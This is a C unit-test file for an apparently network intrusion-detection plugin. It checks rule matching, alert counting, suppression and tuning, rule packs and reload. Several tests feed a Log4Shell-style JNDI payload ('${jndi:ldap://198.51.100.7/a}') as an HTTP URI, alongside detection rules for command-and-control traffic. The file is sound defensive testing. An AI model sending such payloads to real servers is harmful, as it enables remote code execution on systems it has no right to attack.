/* test_signature.c - the plugin: a finding for the first match on a flow, an alert for each, foreign rules with care. */
#include <mamori/net.h>
#include <testhost.h>

#include <netinet/in.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

extern const struct mmr_plugin mmr_plugin_signature;

static void count_item(void *ctx, const void *item)
{
    assert_int_equal(((const struct mmr_alert *)item)->sid, 9000002);
    ++*(unsigned *)ctx;
}

static void feed_uri(struct mmr_testhost *th, int i, struct mmr_flow *flow, const char *uri, uint64_t tx_id)
{
    struct mmr_frame frame = {.struct_size = sizeof frame, .time_ns = MMR_TH_START_NS, .index = 7, .input = "a.pcap"};
    struct mmr_packet p = {.struct_size = sizeof p, .frame = &frame, .flow = flow, .ip_version = 4, .proto = IPPROTO_TCP};
    const struct mmr_buffer bufs[] = {{"http.method", (const uint8_t *)"GET", 3}, {"http.uri", (const uint8_t *)uri, strlen(uri)}};
    struct mmr_tx tx = {.struct_size = sizeof tx, .dir = MMR_TO_SERVER, .flow = flow, .packet = &p, .app = "http", .id = tx_id,
                        .buffers = bufs, .n = 2};
    assert_int_equal(mmr_testhost_feed(th, i, MMR_TOPIC_TX, &tx), 1);
}

static struct mmr_flow a_flow(uint64_t id)
{
    struct mmr_flow f = {.struct_size = sizeof f, .ip_version = 4, .proto = IPPROTO_TCP, .tcp_state = MMR_TCP_ESTABLISHED,
                         .zones = MMR_FLOW_SERVER_INSIDE, .id = id, .client_port = 40000, .server_port = 80, .app = "http"};
    f.client = (struct mmr_addr){{[10] = 0xff, 0xff, 203, 0, 113, 9}};
    f.server = (struct mmr_addr){{[10] = 0xff, 0xff, 192, 168, 1, 5}};
    return f;
}

static void first_match_is_a_finding_and_every_match_an_alert(void **state)
{
    (void)state;
    struct mmr_error err = {.struct_size = sizeof err};
    struct mmr_testhost *th = mmr_testhost_new();
    struct mmr_flow flow = a_flow(1), other = a_flow(2);
    unsigned alerts = 0;
    mmr_testhost_listen(th, MMR_TOPIC_ALERT, count_item, &alerts);
    int i = mmr_testhost_add(th, &mmr_plugin_signature, NULL, &err);
    assert_int_equal(i, 0);
    feed_uri(th, i, &flow, "/?x=${jndi:ldap://198.51.100.7/a}", 0);
    feed_uri(th, i, &flow, "/?x=${jndi:ldap://198.51.100.7/a}", 1);
    feed_uri(th, i, &flow, "/index.html", 2);
    assert_int_equal(mmr_testhost_count(th, "finding"), 1);
    assert_int_equal(alerts, 2);
    feed_uri(th, i, &other, "/?x=${jndi:ldap://198.51.100.7/a}", 0);
    assert_int_equal(mmr_testhost_count(th, "finding"), 2);
    int n = mmr_testhost_find(th, "finding", 0);
    assert_string_equal(mmr_testhost_text(th, n, "mamori.rule"), "sid:9000002");
    assert_string_equal(mmr_testhost_text(th, n, "mamori.phase"), "attempt.inbound");
    assert_string_equal(mmr_testhost_text(th, n, "mamori.direction"), "inbound");
    assert_string_equal(mmr_testhost_text(th, n, "mamori.potential"), "high");
    assert_string_equal(mmr_testhost_text(th, n, "src_endpoint.ip"), "203.0.113.9");
    assert_string_equal(mmr_testhost_text(th, n, "dst_endpoint.ip"), "192.168.1.5");
    assert_int_equal(mmr_testhost_int(th, n, "dst_endpoint.port", 0), 80);
    assert_int_equal(mmr_testhost_int(th, n, "mamori.index", 0), 7);
    assert_non_null(strstr(mmr_testhost_text(th, n, "message"), "${jndi:ldap://198.51.100.7/a}"));
    assert_int_equal(mmr_testhost_feed(th, i, MMR_TOPIC_FLOW, &flow), 1);
    assert_int_equal(mmr_testhost_feed(th, i, MMR_TOPIC_FLOW, &other), 1);
    assert_null(flow.slot[MMR_SLOT_SIGNATURE]);
    mmr_testhost_free(th);
}

/* A file with these rules, removed by the caller. */
static void write_rules(char *path, const char *text)
{
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
    assert_int_equal(close(fd), 0);
}

static void foreign_rules_get_their_meaning_from_class_and_severity(void **state)
{
    (void)state;
    char path[] = "/tmp/mamori-rules-XXXXXX";
    struct mmr_error err = {.struct_size = sizeof err};
    write_rules(path, "alert http any any -> any any (msg:\"c2\"; http.uri; content:\"/c2\"; classtype:command-and-control; metadata:signature_severity Major; sid:1;)\n"
                      "alert http any any -> any any (msg:\"policy\"; http.uri; content:\"/policy\"; classtype:policy-violation; sid:2;)\n"
                      "alert http any any -> any any (msg:\"info\"; http.uri; content:\"/info\"; classtype:trojan-activity; metadata:signature_severity Informational; sid:3;)\n"
                      "alert http any any -> any any (msg:\"off\"; http.uri; content:\"/off\"; classtype:trojan-activity; sid:4;)\n"
                      "alert http any any -> any any (msg:\"half\"; http.uri; content:\"/half\"; no_such_word; sid:5;)\n");
    const char *const cfg[] = {"rules", path, "pack", "false", "disable", "4", NULL};
    struct mmr_testhost *th = mmr_testhost_new();
    struct mmr_flow flow = a_flow(3);
    int i = mmr_testhost_add(th, &mmr_plugin_signature, cfg, &err);
    assert_int_equal(unlink(path), 0);
    assert_int_equal(i, 0);
    assert_int_equal(mmr_testhost_logged(th, MMR_LOG_WARN, NULL), 1); /* the rule left out is named */
    feed_uri(th, i, &flow, "/c2/policy/info/off/half", 0);
    assert_int_equal(mmr_testhost_count(th, "finding"), 3);
    static const struct {
        const char *rule, *phase, *potential;
    } rows[] = {{"sid:1", "foothold.c2", "high"}, {"sid:2", "", "info"}, {"sid:3", "", "info"}};
    for (size_t k = 0; k < 3; k++) {
        int n = mmr_testhost_find_text(th, "finding", "mamori.rule", rows[k].rule);
        assert_true(n >= 0);
        assert_string_equal(mmr_testhost_text(th, n, "mamori.phase"), rows[k].phase);
        assert_string_equal(mmr_testhost_text(th, n, "mamori.potential"), rows[k].potential);
    }
    assert_int_equal(mmr_testhost_feed(th, i, MMR_TOPIC_FLOW, &flow), 1);
    mmr_testhost_free(th);
}

static void rules_are_kept_quiet_for_machines_until_a_day_and_tuned(void **state)
{
    (void)state;
    struct mmr_error err = {.struct_size = sizeof err};
    static const struct {
        const char *key, *entry;
        int findings; /* of three flows of one client, 203.0.113.9 to 192.168.1.5, in November 2023 */
    } rows[] = {
        {"suppress", "sid=9000002 owner=kei reason=scanner of ours", 0},
        {"suppress", "sid=9000002 src=203.0.113.0/24 dst=192.168.1.5 until=2023-11-15 owner=kei reason=test of the week", 0},
        {"suppress", "sid=9000002 src=203.0.113.0/24 until=2023-11-13 owner=kei reason=over since yesterday", 3},
        {"suppress", "sid=9000002 dst=203.0.113.9 owner=kei reason=another machine", 3},
        {"suppress", "sid=9000003 owner=kei reason=another rule", 3},
        {"tune", "sid=9000002 count=3 seconds=60 track=src owner=kei reason=noisy", 1},
        {"tune", "sid=9000002 count=2 seconds=60 track=rule src=198.51.100.1 owner=kei reason=another machine", 3},
    };
    for (size_t k = 0; k < sizeof rows / sizeof rows[0]; k++) {
        const char *const cfg[] = {rows[k].key, rows[k].entry, NULL};
        struct mmr_testhost *th = mmr_testhost_new();
        int i = mmr_testhost_add(th, &mmr_plugin_signature, cfg, &err);
        if (i < 0)
            fail_msg("row %zu: %s", k, err.text);
        for (uint64_t id = 1; id <= 3; id++) {
            struct mmr_flow flow = a_flow(id);
            feed_uri(th, i, &flow, "/?x=${jndi:ldap://198.51.100.7/a}", 0);
            assert_int_equal(mmr_testhost_feed(th, i, MMR_TOPIC_FLOW, &flow), 1);
        }
        if (mmr_testhost_count(th, "finding") != rows[k].findings)
            fail_msg("row %zu (%s): %d findings", k, rows[k].entry, mmr_testhost_count(th, "finding"));
        mmr_testhost_free(th);
    }
    static const char *const bad[][2] = {{"suppress", "owner=a reason=b"}, {"suppress", "sid=1 reason=b"}, {"suppress", "sid=1 owner=a"},
                                         {"suppress", "sid=1 src=nobody owner=a reason=b"}, {"suppress", "sid=1 until=soon owner=a reason=b"},
                                         {"suppress", "sid=1 count=1 owner=a reason=b"}, {"suppress", "sid=1 process=x.exe owner=a reason=b"},
                                         {"tune", "sid=1 count=3 owner=a reason=b"}, {"tune", "sid=1 count=0 seconds=5 owner=a reason=b"},
                                         {"tune", "sid=1 count=1 seconds=5 track=all owner=a reason=b"}, {"suppress", "quiet please"}};
    for (size_t k = 0; k < sizeof bad / sizeof bad[0]; k++) {
        const char *const cfg[] = {bad[k][0], bad[k][1], "pack", "false", NULL};
        struct mmr_testhost *th = mmr_testhost_new();
        if (mmr_testhost_add(th, &mmr_plugin_signature, cfg, &err) != MMR_ECONFIG || !strstr(err.text, bad[k][1]))
            fail_msg("'%s' was not refused by name: %s", bad[k][1], err.text);
        mmr_testhost_free(th);
    }
}

/* Which of three rules alert, as bits: one switched off by its pack, one by a line of another shape, one that is on. */
static unsigned alerting(const char *path, const char *key, const char *entry, int want_idle)
{
    struct mmr_error err = {.struct_size = sizeof err};
    const char *const cfg[] = {"rules", path, "pack", "false", key, entry, NULL};
    struct mmr_testhost *th = mmr_testhost_new();
    struct mmr_flow flow = a_flow(8);
    unsigned bits = 0;
    int i = mmr_testhost_add(th, &mmr_plugin_signature, cfg, &err);
    if (i < 0)
        fail_msg("%s %s: %s", key, entry, err.text);
    feed_uri(th, i, &flow, "/off/more/on", 0);
    for (unsigned k = 0; k < 3; k++) {
        char rule[16];
        (void)snprintf(rule, sizeof rule, "sid:%u", 21 + k);
        bits |= (mmr_testhost_find_text(th, "finding", "mamori.rule", rule) >= 0 ? 1U : 0U) << k;
    }
    if ((int)mmr_testhost_logged(th, MMR_LOG_WARN, NULL) != want_idle)
        fail_msg("%s %s: %u warnings", key, entry, mmr_testhost_logged(th, MMR_LOG_WARN, NULL));
    assert_int_equal(mmr_testhost_feed(th, i, MMR_TOPIC_FLOW, &flow), 1);
    mmr_testhost_free(th);
    return bits;
}

static void rules_of_a_pack_are_switched_on_and_off(void **state)
{
    (void)state;
    char path[] = "/tmp/mamori-scan-XXXXXX";
    write_rules(path, "# Rules of a pack; sid:21 is one of them\n"
                      "#alert http any any -> any any (msg:\"OLD Heartbleed\"; http.uri; content:\"/off\"; classtype:trojan-activity; sid:21; rev:3;)\n"
                      "# alert http any any -> any any (msg:\"more\"; http.uri; content:\"/more\"; classtype:trojan-activity; gid:7; sid:22;)\n"
                      "alert http any any -> any any (msg:\"on\"; http.uri; content:\"/on\"; classtype:trojan-activity; sid:23;)\n"
                      "# alert on your phone when sid:24 is seen\n");
    static const struct {
        const char *key, *entry;
        unsigned want; /* bits of 21, 22, 23 */
        int idle;      /* warnings: the entry means no rule, or a line it means is none */
    } rows[] = {
        {"vars", "X=1", 4, 0},
        {"enable", "21", 5, 0},
        {"enable", "1:21", 5, 0},
        {"enable", "7:22", 6, 0},
        {"enable", "1:22", 4, 1},
        {"enable", "re:heart", 5, 0},
        {"enable", "re:content:./(off|more)", 7, 0},
        {"enable", "group:mamori-scan-*", 7, 1}, /* "alert on your phone" is told as no rule */
        {"enable", "group:other", 4, 1},
        {"enable", "23", 4, 0},
        {"enable", "9", 4, 1},
        {"disable", "23", 0, 0},
        {"disable", "re:msg:.on", 0, 0},
        {"disable", "21", 4, 1},
    };
    for (size_t k = 0; k < sizeof rows / sizeof rows[0]; k++) {
        unsigned got = alerting(path, rows[k].key, rows[k].entry, rows[k].idle);
        if (got != rows[k].want)
            fail_msg("%s %s: rules %x alert, expected %x", rows[k].key, rows[k].entry, got, rows[k].want);
    }
    assert_int_equal(unlink(path), 0);
    static const char *const bad[] = {"x", "1:", ":2", "21 22", "group:", "re:", "re:(", "99999999999"};
    for (size_t k = 0; k < sizeof bad / sizeof bad[0]; k++) {
        struct mmr_error err = {.struct_size = sizeof err};
        const char *const cfg[] = {k & 1 ? "enable" : "disable", bad[k], "pack", "false", NULL};
        struct mmr_testhost *th = mmr_testhost_new();
        if (mmr_testhost_add(th, &mmr_plugin_signature, cfg, &err) != MMR_ECONFIG || !strstr(err.text, bad[k]))
            fail_msg("'%s' was not refused by name: %s", bad[k], err.text);
        mmr_testhost_free(th);
    }
}

static void wrong_configuration_is_refused_and_reload_swaps_the_rules(void **state)
{
    (void)state;
    char path[] = "/tmp/mamori-rules-XXXXXX";
    struct mmr_error err = {.struct_size = sizeof err};
    static const char *const bad[] = {"home_net", "192.0.2.0/99", NULL}, *const lost[] = {"rules", "/nowhere/a.rules", NULL};
    struct mmr_testhost *th = mmr_testhost_new();
    struct mmr_flow flow = a_flow(4);
    assert_int_equal(mmr_testhost_add(th, &mmr_plugin_signature, bad, &err), MMR_ECONFIG);
    assert_non_null(strstr(err.text, "HOME_NET"));
    assert_int_equal(mmr_testhost_add(th, &mmr_plugin_signature, lost, &err), MMR_EIO);
    write_rules(path, "alert http any any -> any any (http.uri; content:\"/new\"; classtype:trojan-activity; sid:6;)\n");
    const char *const next[] = {"rules", path, "pack", "false", NULL};
    int i = mmr_testhost_add(th, &mmr_plugin_signature, NULL, &err);
    assert_true(i >= 0);
    feed_uri(th, i, &flow, "/new", 0);
    assert_int_equal(mmr_testhost_reload(th, i, lost, true, &err), MMR_EIO); /* the old rules go on */
    feed_uri(th, i, &flow, "/?x=${jndi:ldap://198.51.100.7/a}", 1);
    assert_int_equal(mmr_testhost_count(th, "finding"), 1);
    assert_int_equal(mmr_testhost_reload(th, i, next, true, &err), 0);
    assert_int_equal(unlink(path), 0);
    feed_uri(th, i, &flow, "/new", 2);
    assert_int_equal(mmr_testhost_count(th, "finding"), 2);
    mmr_testhost_free(th); /* with the flow still alive: its state goes with the plugin */
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(first_match_is_a_finding_and_every_match_an_alert),
        cmocka_unit_test(foreign_rules_get_their_meaning_from_class_and_severity),
        cmocka_unit_test(rules_are_kept_quiet_for_machines_until_a_day_and_tuned),
        cmocka_unit_test(rules_of_a_pack_are_switched_on_and_off),
        cmocka_unit_test(wrong_configuration_is_refused_and_reload_swaps_the_rules),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
